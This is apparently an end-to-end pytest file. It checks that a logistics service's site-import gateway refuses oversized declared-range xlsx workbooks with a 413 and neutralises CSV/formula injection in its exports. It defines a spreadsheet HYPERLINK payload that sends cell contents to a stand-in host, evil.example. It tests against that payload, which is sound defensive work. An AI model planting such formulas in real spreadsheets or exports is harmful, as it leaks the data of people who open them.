"""The attack run's import files, sent through the gateway: a hostile workbook gets a clear
413 problem and the orders service keeps answering; a site named like a formula is
stored as typed and neutralised in every export (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator

import httpx
import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from coldchain_devtools.hostile_files import declared_xlsx
from coldchain_devtools.testing import RunningSystem, dev_key_headers

pytestmark = pytest.mark.e2e
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = ["code", "name", "latitude", "longitude", "role"]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
async def gateway(running_system: RunningSystem) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(
        base_url=running_system.url("gateway"), timeout=30, headers=dev_key_headers()
    ) as client:
        yield client


async def upload(gateway: httpx.AsyncClient, data: bytes) -> httpx.Response:
    return await gateway.post("/v1/sites/import", files={"file": ("sites.xlsx", data, XLSX)})


async def test_a_workbook_declaring_a1_xfd20000_gets_a_clear_answer(gateway: httpx.AsyncClient) -> None:
    code = f"HUB-{uuid.uuid4().hex[:6]}"
    rows = [HEADER, [code, "hub", "37.2", "127.3", "pickup"]]

    small = declared_xlsx(rows, "A1:XFD20000")
    assert len(small) < 2_000, "the attack's size: about 1.5 KB"
    answer = await upload(gateway, small)
    assert answer.status_code == 200, answer.text
    assert [a["site_id"] for a in answer.json()["accepted"]] == [code]

    padded = declared_xlsx(rows, "A1:XFD20000", filler_rows=19_998)
    refused = await upload(gateway, padded)
    assert refused.status_code == 413, refused.text
    assert refused.headers["content-type"] == "application/problem+json"
    assert "more than 5000 rows" in refused.json()["detail"]

    deepest = await upload(gateway, declared_xlsx(rows, "A1:XFD1048576", last_row=1_048_576))
    assert deepest.status_code == 413
    assert "past row 20000" in deepest.json()["detail"]

    assert (await gateway.get(f"/v1/sites/{code}")).status_code == 200, "orders still answers"


async def test_a_site_named_like_a_formula_is_neutralised_in_exports(gateway: httpx.AsyncClient) -> None:
    code = f"EVIL-{uuid.uuid4().hex[:6]}"
    sheet = "\r\n".join(
        [",".join(HEADER), f'{code},"{FORMULA.replace(chr(34), chr(34) * 2)}",37.5,127.0,dropoff']
    )
    imported = await gateway.post(
        "/v1/sites/import", files={"file": ("sites.csv", sheet.encode(), "text/csv")}
    )
    assert imported.status_code == 200, imported.text
    assert imported.json()["accepted_count"] == 1
    stored = await gateway.get(f"/v1/sites/{code}")
    assert stored.json()["name"] == FORMULA, "JSON holds the text as typed"

    as_csv = await gateway.get("/v1/sites/export.csv")
    assert as_csv.status_code == 200, as_csv.text
    assert as_csv.headers["content-type"].startswith("text/csv")
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig")))}
    assert rows[code]["name"] == "'" + FORMULA

    as_xlsx = await gateway.get("/v1/sites/export.xlsx")
    assert as_xlsx.status_code == 200
    sheet_rows = list(load_workbook(io.BytesIO(as_xlsx.content)).active.iter_rows())
    names = {r[0].value: r[1] for r in sheet_rows[1:]}
    assert names[code].value == "'" + FORMULA
    assert names[code].data_type == "s", "stored as text, never as a formula"

    template = await gateway.get("/v1/sites/import/template.csv")
    assert template.content.decode("utf-8-sig").startswith('"code","name"'), "templates go through it too"

    again = await gateway.post("/v1/sites/import", files={"file": ("sites.csv", as_csv.content, "text/csv")})
    assert again.status_code == 200, again.text
    assert (await gateway.get(f"/v1/sites/{code}")).json()["name"] == FORMULA, (
        "the export reads back as typed"
    )
